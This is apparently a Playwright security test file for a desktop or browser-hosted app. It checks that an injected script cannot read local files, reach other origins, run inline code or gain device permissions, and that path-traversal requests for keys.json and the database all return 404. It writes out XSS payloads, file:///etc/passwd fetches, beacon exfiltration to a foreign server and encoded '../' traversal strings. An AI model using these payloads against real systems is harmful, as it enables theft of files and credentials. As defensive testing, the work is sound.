/** Runs a hostile script in the page. */
import { randomBytes } from 'node:crypto';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from '@playwright/test';
import { test } from './fixtures/foreign-server.ts';
import { expectNoKey, recordFrames } from './fixtures/key-search.ts';
import { connectRpc } from './fixtures/rpc-client.ts';

/** The key that is stored in keys.json. */
const FILE_KEY = 'sk-kept-in-a-file/Zq7+Xw93kLmN0pRstUv';
/** The folder with the files that the hosts serve. */
const PAGE = '.out/renderer';

test('keeps an injected script from files, other origins and other scripts', async ({
  app,
  stranger,
}) => {
  const before = app.url();
  const reached = await app.evaluate(async (elsewhere) => {
    const settled = async (name: string, attempt: () => unknown) => {
      try {
        await attempt();
        return [name];
      } catch {
        return [];
      }
    };
    /** Resolves once the element has loaded. Rejects if it fails to load. */
    const loads = (tag: string, attributes: Record<string, string>) =>
      new Promise<void>((resolve, reject) => {
        const element = document.createElement(tag);
        element.onload = () => resolve();
        element.onerror = () => reject(new Error(tag));
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        document.body.append(element);
      });
    const opens = (target: EventTarget) =>
      new Promise<void>((resolve, reject) => {
        target.addEventListener('open', () => resolve());
        target.addEventListener('error', () => reject(new Error('closed')));
      });
    /** Inserts scripts one at a time, and waits until each has run or was blocked. */
    const inserted = async (html: string) => {
      const run = new Promise((resolve) =>
        Object.defineProperty(window, 'owned', { configurable: true, set: resolve }),
      );
      const refused = new Promise((_, reject) => {
        document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
          if (blockedURI === 'inline') reject(new Error(html));
        });
      });
      const place = document.createElement('div');
      place.innerHTML = html;
      document.body.append(place);
      for (const link of place.querySelectorAll('a')) link.click();
      for (const script of place.querySelectorAll('script')) {
        const copy = document.createElement('script');
        copy.textContent = script.textContent;
        document.body.append(copy);
      }
      await Promise.race([run, refused]).finally(() => place.remove());
    };
    const inWorker = (code: string) =>
      new Promise<void>((resolve, reject) => {
        const url = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
        const worker = new Worker(url);
        worker.onmessage = ({ data }) => (data === 'read' ? resolve() : reject(new Error(data)));
        worker.onerror = () => reject(new Error('worker'));
      });
    const reached = (
      await Promise.all([
        settled('a file', () => fetch('file:///etc/passwd')),
        settled('another origin', () => fetch(`${elsewhere}/fetch`)),
        settled('another origin, unread', () => fetch(`${elsewhere}/blind`, { mode: 'no-cors' })),
        settled('a socket', () =>
          opens(new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`)),
        ),
        settled('events', () => opens(new EventSource(`${elsewhere}/events`))),
        settled('a worker', () =>
          inWorker(
            `fetch('${elsewhere}/worker').then(() => postMessage('read'), () => postMessage('kept out'))`,
          ),
        ),
        settled('a file in a worker', () =>
          inWorker(
            `fetch('file:///etc/passwd').then(() => postMessage('read'), () => postMessage('kept out'))`,
          ),
        ),
        settled('an image', () => loads('img', { src: `${elsewhere}/image.png` })),
        settled('a script', () => loads('script', { src: `${elsewhere}/script.js` })),
        settled('a style', () => loads('link', { rel: 'stylesheet', href: `${elsewhere}/a.css` })),
        settled('a module', () => import(/* @vite-ignore */ `${elsewhere}/module.js`)),
        settled('a module of data', () => import(/* @vite-ignore */ `data:text/javascript,${1}`)),
        settled('a function of text', async () => {
          // Playwright allows it in the task that Playwright itself starts.
          await new Promise((resolve) => setTimeout(resolve));
          return new Function('return 1')();
        }),
      ])
    ).flat();
    for (const [name, html] of [
      ['an inline script', '<script>window.owned = 1</script>'],
      ['a handler', '<img src="/nothing" onerror="window.owned = 1">'],
      ['an address with a script', '<a href="javascript:void(window.owned = 1)">x</a>'],
    ] as const) {
      reached.push(...(await settled(name, () => inserted(html))));
    }
    return reached;
  }, stranger.origin);
  expect(reached).toEqual([]);

  await app.evaluate((elsewhere) => {
    navigator.sendBeacon(`${elsewhere}/beacon`, 'secret');
    for (const tag of ['iframe', 'embed', 'object', 'video', 'audio']) {
      const element = document.createElement(tag);
      element.setAttribute(tag === 'object' ? 'data' : 'src', `${elsewhere}/${tag}`);
      document.body.append(element);
    }
    const form = document.createElement('form');
    Object.assign(form, { action: `${elsewhere}/form`, method: 'post' });
    document.body.append(form);
    form.submit();
    const base = document.createElement('base');
    base.href = elsewhere;
    document.head.append(base);
  }, stranger.origin);
  // The page sends this request last, so the earlier ones would have arrived by now.
  expect(await app.evaluate(() => fetch('/').then(({ status }) => status))).toBe(200);
  await app.waitForLoadState('networkidle');
  expect(app.url()).toBe(before);
  expect(stranger.visits).toEqual([]);
});

test.describe('in the browser host', () => {
  test.skip(({ hostKind }) => hostKind !== 'browser', 'It is about the browser host.');

  test('denies an injected script any permission that the page doesn’t use', async ({ app }) => {
    // Grant everything a user could grant, so that only the page's own policy denies it.
    await app.context().grantPermissions(['geolocation', 'camera', 'clipboard-read']);
    const outcomes = await app.evaluate(async () => {
      const outcome = async (name: string, attempt: () => unknown) =>
        Promise.resolve()
          .then(attempt)
          .then(
            () => [name, 'allowed'],
            (cause: unknown) => [name, cause instanceof DOMException ? cause.name : String(cause)],
          );
      const device = (name: string, method: string) => {
        const part: unknown = Reflect.get(navigator, name);
        if (typeof part !== 'object' || part === null) throw new Error('not there');
        return Reflect.apply(Reflect.get(part, method), part, [{ filters: [] }]);
      };
      const place = () =>
        new Promise((resolve, reject) =>
          navigator.geolocation.getCurrentPosition(resolve, ({ message }) => reject(message), {
            timeout: 1000,
          }),
        );
      /** Lists permissions that can't be tried, because no device here has them. */
      const policy: { allowsFeature(name: string): boolean } = Reflect.get(
        document,
        'featurePolicy',
      );
      return Promise.all([
        ['camera', policy.allowsFeature('camera')],
        ['microphone', policy.allowsFeature('microphone')],
        outcome('place', place),
        outcome('screen', () => navigator.mediaDevices.getDisplayMedia()),
        outcome('clipboard', () => navigator.clipboard.readText()),
        outcome('USB', () => device('usb', 'getDevices')),
        outcome('HID', () => device('hid', 'getDevices')),
        outcome('serial', () => device('serial', 'getPorts')),
        outcome('MIDI', () => navigator.requestMIDIAccess()),
      ]);
    });
    // Without the device or a click, the browser reports a different error.
    expect(Object.fromEntries(outcomes)).toEqual({
      camera: false,
      microphone: true,
      place: 'Geolocation has been disabled in this document by permissions policy.',
      screen: 'NotAllowedError',
      clipboard: 'NotAllowedError',
      USB: 'SecurityError',
      HID: 'SecurityError',
      serial: 'SecurityError',
      MIDI: 'SecurityError',
    });
  });

  test('keeps an injected script from keys, guessed files and forged calls', async ({
    app,
    gateway,
    home,
  }) => {
    const frames = recordFrames(app);
    await app.reload();
    await expect(app.getByRole('combobox', { name: 'Connection' })).toBeEnabled();
    const { api, close } = await connectRpc(app);
    const answers: unknown[] = [
      await api.connections.list(),
      await api.system.info(),
      await api.settings.get(),
      await api.connections.test({ id: 'environment' }),
    ];
    // A script must not be able to send the key to another origin.
    const update = { id: 'environment', name: 'Environment', baseUrl: 'http://127.0.0.1:9' };
    await expect(api.connections.update(update)).rejects.toMatchObject({ code: 'APP_ERROR' });
    for (const url of ['file:///etc/passwd', 'app://gatehouse/', `${new URL(app.url()).origin}/`]) {
      await expect(api.media.fetchRemote({ url })).rejects.toMatchObject({ code: 'APP_ERROR' });
    }
    const kept = await api.connections.create({ name: 'Kept', baseUrl: 'http://127.0.0.1:9' });
    await api.connections.setKey({ id: kept.id, key: FILE_KEY, keeping: 'file' });
    answers.push(await api.connections.list());
    close();
    for (const key of [gateway.key, FILE_KEY]) {
      expectNoKey(key, 'the answers of the main process', JSON.stringify(answers));
      expectNoKey(key, 'the messages of the main process', frames.received.join('\n'));
    }

    const id = await app.evaluate(async () => {
      const begun = await fetch('/media?role=upload&name=a.txt', { method: 'POST' });
      const { id }: { id: string } = await begun.json();
      await fetch(`/media/${id}?offset=0`, { method: 'PUT', body: 'secret' });
      await fetch(`/media/${id}/finish`, { method: 'POST' });
      return id;
    });
    const statusesOf = (paths: string[]) =>
      app.evaluate(
        (paths) => Promise.all(paths.map(async (path) => (await fetch(path)).status)),
        paths,
      );
    const [hash = ''] = readdirSync(join(home, 'media')).filter((name) => name.length === 64);
    const [asset] = readdirSync(join(PAGE, 'assets'));
    // Try folders that a path could escape to, and files that exist.
    const climbs = [
      ...['ledger.sqlite', 'keys.json', `media/${hash}`].map((file) => ({
        at: '/media/',
        folder: join(home, 'media'),
        path: `../${file}`,
      })),
      { at: '/media/', folder: join(home, 'media'), path: hash },
      { at: '/', folder: PAGE, path: '../main/browser.js' },
      { at: '/assets/', folder: join(PAGE, 'assets'), path: '../../main/browser.js' },
      { at: '/', folder: PAGE, path: '../../package.json' },
    ];
    for (const { folder, path } of climbs) expect(existsSync(join(folder, path)), path).toBe(true);
    const paths = [
      ...climbs.flatMap(({ at, path }) =>
        [
          path.replaceAll('/', '%2f'),
          path.replaceAll('.', '%2e').replaceAll('/', '%2F'),
          path.replaceAll('/', '%5c'),
          path.replaceAll('/', '%252f'),
          `x/%2e%2e%2f${path.replaceAll('/', '%2f')}`,
        ].map((climbing) => `${at}${climbing}`),
      ),
      ...climbs.map(({ folder, path }) => `/${encodeURIComponent(join(folder, path))}`),
      `/media/${id}%2f..%2f..%2fkeys.json`,
      `/media/${id}/../../keys.json`,
      '/keys.json',
      '/media/incoming',
      // Use an existing ID without its last character.
      ...['A', 'Q', 'g', 'w'].map((letter) => `/media/${id.slice(0, -1)}${letter}`),
      ...Array.from({ length: 20 }, () => `/media/${randomBytes(16).toString('base64url')}`),
    ].filter((path) => path !== `/media/${id}`);
    expect(await statusesOf(paths)).toEqual(paths.map(() => 404));
    expect(await statusesOf([`/media/${id}`, `/assets/${asset}`, '/'])).toEqual([200, 200, 200]);
  });
});
